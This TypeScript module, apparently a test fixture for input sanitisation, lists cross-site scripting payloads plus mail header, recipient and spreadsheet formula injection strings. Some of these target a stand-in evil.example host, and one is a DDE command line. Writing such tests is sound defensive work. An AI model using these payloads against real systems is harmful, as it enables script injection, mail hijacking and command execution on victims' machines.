// Injection payloads for whatever shows or mails input later: 60 for pages, 40 for mails and spreadsheets.

const SCRIPT = 'window.__hit=1';

/** Each would set `window.__hit` where a page interprets it as markup, a URL, a template or code. */
export const PAGE_PAYLOADS: readonly string[] = [
  `<script>${SCRIPT}</script>`,
  `<SCRIPT SRC=data:text/javascript,${SCRIPT}></SCRIPT>`,
  `"><script>${SCRIPT}</script>`,
  `'><script>${SCRIPT}</script>`,
  `</title><script>${SCRIPT}</script>`,
  `</textarea><script>${SCRIPT}</script>`,
  `</script><script>${SCRIPT}</script>`,
  `--><script>${SCRIPT}</script>`,
  `]]><script>${SCRIPT}</script>`,
  `<scr<script>ipt>${SCRIPT}</scr</script>ipt>`,
  ...['img', 'video', 'audio', 'image', 'input type=image', 'embed', 'object data=x', 'iframe'].map(
    (tag) => `<${tag} src=x onerror=${SCRIPT}>`,
  ),
  ...['svg', 'body', 'iframe', 'style', 'math', 'marquee'].map((tag) => `<${tag} onload=${SCRIPT}>`),
  ...['onfocus', 'onmouseover', 'onclick', 'onpointerenter', 'onanimationstart', 'ontoggle'].map(
    (event) => `" ${event}=${SCRIPT} autofocus tabindex=1 x="`,
  ),
  ...['onfocus', 'onmouseover', 'onerror'].map((event) => `' ${event}=${SCRIPT} autofocus x='`),
  `<svg><animate onbegin=${SCRIPT} attributeName=x dur=1s>`,
  `<svg><script>${SCRIPT}</script></svg>`,
  `<svg><a xlink:href="javascript:${SCRIPT}"><text y=20>x</text></a></svg>`,
  `<details open ontoggle=${SCRIPT}>x</details>`,
  `<select autofocus onfocus=${SCRIPT}></select>`,
  `<form action="javascript:${SCRIPT}"><button>x</button></form>`,
  `<a href="javascript:${SCRIPT}">x</a>`,
  `<a href="java&#9;script:${SCRIPT}">x</a>`,
  `<base href="javascript:${SCRIPT}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${SCRIPT}">`,
  `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${SCRIPT})}">`,
  `<iframe srcdoc="<script>parent.__hit=1</script>">`,
  `<template><script>${SCRIPT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${SCRIPT}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${SCRIPT}>`,
  `&lt;script&gt;${SCRIPT}&lt;/script&gt;`,
  `&#60;img src=x onerror=${SCRIPT}&#62;`,
  `\\u003cscript\\u003e${SCRIPT}\\u003c/script\\u003e`,
  `%3Cscript%3E${SCRIPT}%3C/script%3E`,
  `javascript:${SCRIPT}`,
  `{{constructor.constructor('${SCRIPT}')()}}`,
  `\${${SCRIPT}}`,
  `<%= ${SCRIPT} %>`,
  `__proto__`,
  `constructor`,
  `<!--<img src="--><img src=x onerror=${SCRIPT}>`,
  `＜script＞${SCRIPT}＜/script＞`,
];

/** Attempts at another header, another recipient, a live tag in a mail, or a formula in a spreadsheet. */
export const MAIL_PAYLOADS: readonly string[] = [
  ...['\r\n', '\n', '\r', '\u2028', '\u2029', '\u0085', '%0d%0a', '\\r\\n', '\u0000\r\n', '=0D=0A'].map(
    (end) => `Ada${end}Bcc: stranger@evil.example`,
  ),
  ...['Bcc', 'Cc', 'To', 'Reply-To', 'Subject', 'Content-Type'].map(
    (name) => `x\r\n${name}: stranger@evil.example`,
  ),
  'Ada\r\n\r\n<h1>Another mail</h1>',
  'Ada\r\n.\r\nMAIL FROM:<stranger@evil.example>',
  '=?utf-8?Q?Ada=0D=0ABcc:_stranger@evil.example?=',
  'Ada <stranger@evil.example>',
  'Ada, stranger@evil.example',
  'Ada" <stranger@evil.example>, "x',
  '<img src=x onerror=alert(1)>',
  '<a href="https://evil.example">Your account</a>',
  '[Your account](https://evil.example)',
  '![x](https://evil.example/pixel.png)',
  '<script>alert(1)</script>',
  '</p></body></html><h1>x',
  '{{order.link}} {{account.link}}',
  ...['=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', ' =1+1', '＝1+1', "'=1+1"],
  '=HYPERLINK("https://evil.example","x")',
  '=cmd|"/c calc"!A1',
  '"=1+1',
];
